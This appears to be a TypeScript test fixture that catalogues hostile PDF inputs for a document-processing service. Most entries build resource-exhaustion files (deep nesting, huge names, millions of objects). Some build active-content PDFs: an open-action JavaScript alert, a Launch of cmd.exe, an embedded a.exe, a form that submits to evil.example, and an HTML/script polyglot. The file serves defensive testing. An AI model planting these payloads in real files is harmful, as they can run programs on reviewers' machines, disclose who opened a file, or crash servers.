import type { HostileClass } from '../../platform/process/test-hostile.ts'
import { onePage, pdfOf, rangeOf } from './test-pdf.ts'

const muller = 'Müller et al., Processing Dangerous Paths, NDSS 2021'
const cve = 'CVE-2018-16646 (poppler, getObj) and its like'

/** Files whose words are too deep, too long or too many; and what they carry that does something. */
export const hostileTokens: readonly HostileClass[] = [
  {
    name: 'two million empty dictionaries in one list',
    source: 'found by attacking this product',
    why: 'eleven megabytes became a gigabyte of objects: the server ended with its heap, once in two tries',
    build: () => onePage('', `[${'<<>>'.repeat(2_200_000)}]`),
  },
  {
    name: 'four million numbers in one list',
    source: 'CWE-770',
    why: 'each becomes an object of the library',
    build: () => onePage('', `[${'1 '.repeat(4_000_000)}]`),
  },
  {
    name: 'lists in lists, half a million deep',
    source: cve,
    why: 'who reads them calls himself as often',
    build: () => onePage('', '['.repeat(500_000)),
  },
  {
    name: 'dictionaries in dictionaries, two hundred thousand deep',
    source: cve,
    why: 'who reads them calls himself as often',
    build: () => onePage('', '<</A'.repeat(200_000)),
  },
  {
    name: 'lists that are all closed again, a hundred thousand deep',
    source: cve,
    why: 'a valid one ends a reader as well',
    build: () => onePage('', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
  },
  {
    name: 'brackets of a string that never close',
    source: 'CWE-400',
    why: 'how deep they are is counted to the end, for each again',
    build: () => onePage('', `${'('.repeat(3_000_000)}`),
  },
  {
    name: 'a string of hexadecimals without an end',
    source: 'CWE-400',
    why: 'the end is looked for',
    build: () => onePage('', `<${'00'.repeat(2_500_000)}`),
  },
  {
    name: 'a name of five megabytes',
    source: 'CWE-400',
    why: 'names are compared and kept',
    build: () => onePage(`/${'A'.repeat(5_000_000)} 1`),
  },
  {
    name: 'a name of a million escaped letters',
    source: 'ISO 32000-1, 7.3.5',
    why: 'each is replaced',
    build: () => onePage(`/${'#41'.repeat(1_000_000)} 1`),
  },
  {
    name: 'a hundred thousand names that differ',
    source: 'CWE-407',
    why: 'each is kept for good',
    build: () => onePage(rangeOf(100_000, (at) => `/N${at} 1`).join('')),
  },
  {
    name: 'a comment of ten megabytes',
    source: 'CWE-400',
    why: 'no line ends',
    build: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(10_000_000, '%'), onePage()]),
  },
  {
    name: 'five megabytes of blanks between two words',
    source: 'CWE-1333',
    why: 'patterns that skip blanks go back over them',
    build: () => onePage(`/Encrypt${' '.repeat(5_000_000)}`),
  },
  {
    name: 'a million times the word that begins an object',
    source: 'CWE-407',
    why: 'each is tried as an object',
    build: () => Buffer.from(`%PDF-1.7\n${'1 0 obj '.repeat(1_000_000)}`),
  },
  {
    name: 'thirty thousand empty objects',
    source: 'CWE-770',
    why: 'each costs far more than it took to send',
    build: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 0/Kids[]>>', ...rangeOf(30_000, () => 'null')]),
  },
  {
    name: 'half a million times the end of an object',
    source: 'CWE-407',
    why: 'a reader that mends files looks on from each',
    build: () => Buffer.from(`%PDF-1.7\n${'endobj '.repeat(500_000)}`),
  },
  {
    name: 'the same object written ten thousand times',
    source: 'incremental updates, ISO 32000-1, 7.5.6',
    why: 'which one counts differs between readers',
    build: () =>
      Buffer.concat([onePage(), Buffer.from('2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n'.repeat(10_000))]),
  },
  {
    name: 'five thousand updates, each with its own end',
    source: 'Mladenov et al., Shadow Attacks, NDSS 2021',
    why: 'each is a file of its own',
    build: () =>
      Buffer.concat([
        onePage(),
        Buffer.from('xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev 9>>\nstartxref\n15\n%%EOF\n'.repeat(5000)),
      ]),
  },
  {
    name: 'an object with a number no object has',
    source: 'CWE-190',
    why: 'numbers are places in lists',
    build: (dice) =>
      Buffer.concat([
        onePage(),
        Buffer.from(`${dice.pick(['99999999999999999999', '-7', '4294967297', '2147483648'])} 65536 obj<<>>endobj\n`),
      ]),
  },
  {
    name: 'a number of a hundred thousand digits',
    source: 'CWE-1333',
    why: 'digits are read into a number one by one',
    build: () => onePage(`/UserUnit ${'9'.repeat(100_000)}`),
  },
  {
    name: 'a page as large as a country',
    source: 'CWE-190',
    why: 'marks are tiled over it one by one',
    build: (dice) => onePage(`/MediaBox[0 0 ${dice.pick(['1e9', '99999999999', '-5', '0'])} 200]`),
  },
  {
    name: 'a page without a size',
    source: 'CWE-476',
    why: 'what is missing is asked for',
    build: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>', '<</Type/Page/Parent 2 0 R>>']),
  },
  {
    name: 'fifty thousand notes on one page',
    source: 'CWE-770',
    why: 'each is walked',
    build: () => onePage(`/Annots[${'<</Subtype/Link/Rect[0 0 1 1]>>'.repeat(50_000)}]`),
  },
  {
    name: 'a script that runs when the file is opened',
    source: muller,
    why: 'it goes to whoever reviews',
    build: () => onePage('/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>'),
  },
  {
    name: 'a program that is started when the file is opened',
    source: 'CVE-2010-1240 (Launch)',
    why: 'it goes to whoever reviews',
    build: () => onePage('/AA<</O<</S/Launch/F(cmd.exe)>>>>'),
  },
  {
    name: 'a file inside the file',
    source: muller,
    why: 'what is attached is not looked at',
    build: () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>>>',
        '<</Type/Pages/Count 1/Kids[3 0 R]>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>',
        '<</Type/Filespec/F(a.exe)>>',
      ]),
  },
  {
    name: 'a form that sends itself somewhere',
    source: muller,
    why: 'it tells who opened it',
    build: () => onePage('/AA<</O<</S/SubmitForm/F(http://evil.example/)>>>>'),
  },
  {
    name: 'a file that is encrypted',
    source: muller,
    why: 'nobody can look at it',
    build: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 0/Kids[]>>'], {
        trailer: '/Encrypt<</Filter/Standard/V 5/R 6/O()/U()>>',
      }),
  },
  {
    name: 'a file that is encrypted and says so in other letters',
    source: 'ISO 32000-1, 7.3.5',
    why: 'a search for the word does not find it',
    build: () =>
      pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 0/Kids[]>>'], {
        trailer: '/E#6ecrypt<</Filter/Standard/V 5>>',
      }),
  },
  {
    name: 'a head and nothing more',
    source: 'CWE-20',
    why: 'the catalog is missing',
    build: () => Buffer.from('%PDF-1.7\n'),
  },
  {
    name: 'a web page behind a head',
    source: 'Albertini, polyglots',
    why: 'a browser may take it for what it is not',
    build: () => Buffer.from(`%PDF-1.7\n<html><script>alert(1)</script>${'<p>'.repeat(5000)}`),
  },
  {
    name: 'a zip behind a whole file',
    source: 'Albertini, polyglots',
    why: 'one file, two kinds',
    build: () => Buffer.concat([onePage(), Buffer.from('504b0506000000000000000000000000000000000000', 'hex')]),
  },
]
